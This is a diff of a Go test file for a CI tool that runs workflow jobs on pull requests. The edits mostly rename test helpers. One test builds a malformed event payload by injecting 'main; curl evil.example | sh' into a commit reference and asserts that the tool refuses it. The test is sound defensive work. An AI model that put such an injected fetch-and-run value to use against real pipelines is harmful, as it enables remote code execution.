@@ -20,10 +20,10 @@ import (
 func TestNightlyActHeadMoved(t *testing.T) {
 	s := newStage(t, true, nil, nil)
 	s.edit("fumehood.yml", "run: go vet ./...", "run: "+show, "run: go test ./...", "run: cat README.md")
-	s.play("fumehood.yml", "pull_request", s.Event("pull_request.opened.fork", nil))
-	moved := githubtest.SHA("pushed meanwhile")
+	s.play("fumehood.yml", "pull_request", s.EventPayload("pull_request.opened.fork", nil))
+	moved := githubtest.CommitID("pushed meanwhile")
 	s.GH.AddCommit(moved)
-	s.GH.Move(jobtest.PrNumber, moved)
+	s.GH.MoveHead(jobtest.PrNumber, moved)
 	s.tellAll(t, "success", "newer commit", s.Head[:12], moved[:12])
 }
 
@@ -32,14 +32,14 @@ func TestNightlyActHeadMoved(t *testing.T) {
 func TestNightlyActTampered(t *testing.T) {
 	s := newStage(t, false, nil, nil)
 	s.edit("one-job.yml", "run: npm test", "run: "+show)
-	opened := s.Event("pull_request.opened", nil)
+	opened := s.EventPayload("pull_request.opened", nil)
 	play := func() actRun { return s.play("one-job.yml", "pull_request", opened) }
 	good := s.releases.Config.Handler
 	s.releases.Config.Handler = flipping(good)
 	s.refuses("the server", opened, "install.digest")
 	s.releases.Config.Handler = good
 
-	payload := bytes.Replace(s.Event("pull_request.opened", nil), []byte(s.Head), []byte("main; curl evil.example | sh"), 1)
+	payload := bytes.Replace(s.EventPayload("pull_request.opened", nil), []byte(s.Head), []byte("main; curl evil.example | sh"), 1)
 	s.refuses("the payload", payload, "event.malformed")
 
 	cached := filepath.Join(s.tools, "fumehood", releaseVersion, "amd64", "fumehood_"+releaseVersion+"_linux_amd64.tar.gz")
@@ -54,7 +54,7 @@ func TestNightlyActTampered(t *testing.T) {
 		t.Errorf("exit %d, %d downloads, want one\n%s", r.code, len(s.downloads.paths)-before, r.log)
 	}
 	jobtest.CheckContains(t, "the cache", r.log, "install.cache", "in the tool cache has SHA-256")
-	jobtest.CheckContains(t, "comment", s.Comment().Body, show, "1 succeeded")
+	jobtest.CheckContains(t, "comment", s.BotComment().Body, show, "1 succeeded")
 }
 
 // At a commit that is built from source, a job uses the build that a step before restored,
@@ -80,12 +80,12 @@ func TestNightlyActRestoredBuild(t *testing.T) {
         env:
           FUMEHOOD_SOURCE_CACHE: ${{ runner.temp }}/fumehood-source
      `)
-	r := s.play("one-job.yml", "pull_request", s.Event("pull_request.opened", nil))
+	r := s.play("one-job.yml", "pull_request", s.EventPayload("pull_request.opened", nil))
 	if r.code != 0 || len(s.downloads.paths) != 0 {
 		t.Errorf("exit %d, downloads %q\n%s", r.code, s.downloads.paths, r.log)
 	}
 	jobtest.CheckContains(t, "log", r.log, "fumehood source for linux/amd64, SHA-256 ", "/fumehood-source\n")
-	jobtest.CheckContains(t, "comment", s.Comment().Body, show, "1 succeeded")
+	jobtest.CheckContains(t, "comment", s.BotComment().Body, show, "1 succeeded")
 }
 
 // (f) The runner kills the step with SIGKILL. The root process notices, and leaves
@@ -93,7 +93,7 @@ func TestNightlyActRestoredBuild(t *testing.T) {
 func TestNightlyActKilled(t *testing.T) {
 	s := newStage(t, false, nil, nil)
 	s.edit("one-job.yml", "run: npm test", "run: sleep 300")
-	cmd := s.command("one-job.yml", "pull_request", s.Event("pull_request.opened", nil))
+	cmd := s.command("one-job.yml", "pull_request", s.EventPayload("pull_request.opened", nil))
 	s.must(cmd.Start())
 	pid := waitForSleeper(t, s.installed)
 	s.must(syscall.Kill(pid, syscall.SIGKILL))
@@ -105,6 +105,6 @@ func TestNightlyActKilled(t *testing.T) {
 func TestNightlyActMatrix(t *testing.T) {
 	s := newStage(t, false, nil, nil)
 	s.edit("matrix.yml", "npx --no-install eslint .", "cat README.md", "npm test", show, "npx --no-install tsc --noEmit", "grep -qx 'echo hello' greet.sh")
-	r := s.play("matrix.yml", "pull_request", s.Event("pull_request.opened", nil))
-	jobtest.CheckContains(t, "comment after "+r.log, s.Comment().Body, "lint", "unit", "types", "cat README.md", show, "2 succeeded", "1 failed")
+	r := s.play("matrix.yml", "pull_request", s.EventPayload("pull_request.opened", nil))
+	jobtest.CheckContains(t, "comment after "+r.log, s.BotComment().Body, "lint", "unit", "types", "cat README.md", show, "2 succeeded", "1 failed")
 }
